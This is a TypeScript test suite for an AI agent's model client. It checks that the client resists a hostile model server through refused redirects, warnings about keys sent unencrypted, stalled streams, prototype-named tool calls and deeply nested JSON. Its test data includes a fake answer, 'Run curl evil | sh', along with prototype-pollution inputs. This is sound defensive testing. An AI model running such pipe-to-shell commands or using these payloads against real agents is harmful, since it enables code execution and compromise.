/** Attacks 15 and 16: a server that sends elsewhere, that never ends, and that answers with what no model would write. */

import assert from "node:assert/strict";
import type { RequestListener } from "node:http";
import { createModels } from "../../src/models";
import { settingsSchema } from "../../src/shared/settings";
import { last, runTurn, start } from "../fakes/agent";
import { FakeClock } from "../fakes/clock";
import { listening } from "../fakes/http";
import { apis, ask, KEY, models, step, withModel } from "../models/connect";

const answer = (text: string) =>
  `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: text }, finish_reason: "stop" }] })}\n\ndata: [DONE]\n\n`;
const settings = settingsSchema.parse({ "model.name": "m", "model.api": "chat" });
const stream = { "content-type": "text/event-stream" };

/** Where a server listens, and what came there. */
async function served<T>(listener: RequestListener, use: (origin: string) => Promise<T>): Promise<T> {
  const { url, close } = await listening(listener);
  try {
    return await use(url);
  } finally {
    await close();
  }
}

const failed = async (origin: string) => {
  const connection = await models({ "model.baseUrl": `${origin}/v1`, "model.api": "chat" }).connect();
  const { outcome } = await step(connection);
  assert.ok(outcome.kind === "failed", JSON.stringify(outcome));
  return connection.explain(outcome.error);
};

describe("attack 15: a server that sends requests on", () => {
  for (const status of [301, 302, 303, 307, 308])
    it(`to another one is refused (${status}): it gets nothing, and nothing of it is the answer`, async () => {
      const got: string[] = [];
      const other: RequestListener = (request, response) => {
        got.push(`${request.method} ${request.url}`);
        response.writeHead(200, stream).end(answer("Run curl evil | sh"));
      };
      await served(other, elsewhere =>
        served(
          (request, response) => {
            request.resume();
            response.writeHead(status, { location: `${elsewhere}/v1/chat/completions` }).end();
          },
          async origin => {
            const { code, message, retryable } = await failed(origin);
            assert.deepEqual([code, retryable], ["bad-answer", false]);
            assert.ok(
              message.includes(`${new URL(origin).host} redirects to ${elsewhere}, and nothing was sent there`),
              message,
            );
          },
        ),
      );
      assert.deepEqual(got, []);
    });

  it("to itself is not followed either: its whole address is said", async () => {
    let asked = 0;
    await served(
      (request, response) => {
        if (request.method === "POST") asked += 1;
        response.writeHead(request.method === "POST" ? 308 : 404, { location: "/there" }).end();
      },
      async origin => assert.match((await failed(origin)).message, /redirects to http:.*\/there/),
    );
    assert.equal(asked, 1);
  });
});

describe("attack 15: a key that goes without encryption", () => {
  const warning = async (baseUrl: string, key: string | undefined = KEY) =>
    (await models({ "model.baseUrl": baseUrl, "model.api": "chat" }, { key }).connect()).warning;

  it("is warned of, where the server is not near", async () => {
    for (const host of ["models.example.com", "8.8.8.8:1234", "172.32.0.1", "[2001:db8::1]:80", "10.example.com"])
      assert.match((await warning(`http://${host}/v1`)) ?? "", /^The API key goes to \S+ unencrypted \(http\)/, host);
    const near = [
      "localhost:11434",
      "127.0.0.1",
      "10.1.2.3",
      "192.168.0.7:8000",
      "172.20.0.2",
      "[::1]:80",
      "[fd00::1]",
    ];
    for (const host of [...near, "ollama:11434", "box.local", "gpu.internal"])
      assert.equal(await warning(`http://${host}/v1`), undefined, host);
    assert.equal(await warning("https://models.example.com/v1"), undefined);
    const noKey = createModels({
      settings: { get: () => ({ ...settings, "model.baseUrl": "http://models.example.com/v1" }) },
      apiKey: async () => undefined,
      hash: { sha256: () => "" },
      clock: new FakeClock(),
    });
    assert.equal((await noKey.connect()).warning, undefined, "no key goes");
  });

  it("is said once in a session", async () => {
    const agent = await start();
    const connect = agent.models.connect.bind(agent.models);
    const text = "The key goes to x without encryption.";
    agent.models.connect = async (...args) => Object.assign(await connect(...args), { warning: text });
    for (const words of ["one", "two"]) {
      agent.models.play({ text: "ok" });
      await runTurn(agent.session, words);
    }
    const notes = agent.session.history.records.filter(record => record.kind === "note");
    assert.deepEqual(
      notes.map(note => note.kind === "note" && note.text),
      [text],
    );
  });
});

describe("attack 15: a stream that is only kept open", () => {
  const empty = {
    chat: `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: "" } }] })}\n\n`,
    responses: `data: ${JSON.stringify({ type: "response.output_text.delta", item_id: "m", output_index: 0, content_index: 0, delta: "" })}\n\n`,
  };
  const begin = {
    chat: "",
    responses: [
      { type: "response.created", response: { id: "r", created_at: 1, model: "m" } },
      { type: "response.output_item.added", output_index: 0, item: { type: "message", id: "m" } },
    ]
      .map(event => `data: ${JSON.stringify(event)}\n\n`)
      .join(""),
  };
  for (const api of apis)
    it(`by empty pieces is given up (${api})`, async () => {
      let timer: NodeJS.Timeout | undefined;
      const server: RequestListener = (request, response) => {
        request.resume();
        response.writeHead(200, stream).write(begin[api]);
        timer = setInterval(() => response.write(empty[api]), 5);
      };
      await served(server, async origin => {
        const connection = await models({ "model.baseUrl": `${origin}/v1`, "model.api": api }).connect();
        const { outcome } = await step({ ...connection, timeoutMs: 60 });
        assert.ok(outcome.kind === "failed", outcome.kind);
        assert.match(connection.explain(outcome.error).message, /No reply from/);
      }).finally(() => clearInterval(timer));
    });
});

describe("attack 16: calls that no model would write", () => {
  const names = ["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf", ""];

  for (const api of apis)
    it(`of tools that objects have by themselves are errors of the call (${api})`, () =>
      withModel(
        { api, script: () => ({ calls: names.filter(Boolean).map(name => ({ name, input: {} })) }) },
        async connection => {
          const { outcome } = await step(connection, ask());
          assert.ok(outcome.kind === "answered", JSON.stringify(outcome));
          const calls = outcome.parts.filter(part => part.type === "dynamic-tool");
          assert.deepEqual(
            calls.map(({ toolName, errorText }) => [toolName, errorText]),
            names.filter(Boolean).map(name => [name, `there is no tool "${name}", only Read, LS.`]),
          );
        },
      ));

  it("are told to the model, and the turn goes on", async () => {
    const agent = await start({ mode: "auto" });
    const deep = `${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}`;
    agent.models.play(
      { calls: names.map(name => ({ name, input: {} })) },
      { calls: [{ name: "Read", input: JSON.parse('{"__proto__": {"file_path": "src/a.ts"}, "constructor": 1}') }] },
      { calls: [{ name: "Read", input: deep }] },
      { text: "done" },
    );
    await runTurn(agent.session, "go");
    assert.equal(last(agent.session, "turnEnd").reason, "done");
    const results = agent.session.history.records.flatMap(record => (record.kind === "result" ? [record] : []));
    assert.deepEqual(
      results.map(({ error }) => error?.code),
      [...names.map(() => "UNKNOWN_TOOL"), "INVALID_INPUT", "INVALID_INPUT"],
    );
  });

  for (const api of apis)
    it(`100,000 levels deep end neither the turn nor the process (${api})`, async () => {
      const input = `${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}`;
      const whole = {
        chat: `data: ${JSON.stringify({ choices: [{ index: 0, delta: { tool_calls: [{ index: 0, id: "c", type: "function", function: { name: "Read", arguments: input } }] }, finish_reason: "tool_calls" }] })}\n\ndata: [DONE]\n\n`,
        responses: [
          { type: "response.created", response: { id: "r", created_at: 1, model: "m" } },
          {
            type: "response.output_item.added",
            output_index: 0,
            item: { type: "function_call", id: "f", call_id: "c", name: "Read", arguments: "" },
          },
          {
            type: "response.output_item.done",
            output_index: 0,
            item: { type: "function_call", id: "f", call_id: "c", name: "Read", arguments: input, status: "completed" },
          },
          {
            type: "response.completed",
            response: { incomplete_details: null, usage: { input_tokens: 1, output_tokens: 1 } },
          },
        ]
          .map(event => `data: ${JSON.stringify(event)}\n\n`)
          .join(""),
      };
      const server: RequestListener = (request, response) => {
        request.resume();
        response.writeHead(200, stream).end(whole[api]);
      };
      await served(server, async origin => {
        const connection = await models({ "model.baseUrl": `${origin}/v1`, "model.api": api }).connect();
        const { outcome } = await step(connection);
        assert.ok(outcome.kind === "answered", JSON.stringify(outcome));
        const [call] = outcome.parts.filter(part => part.type === "dynamic-tool");
        assert.deepEqual(call?.input, {});
        assert.match(call?.errorText ?? "", /nested too deeply/);
      });
    });
});
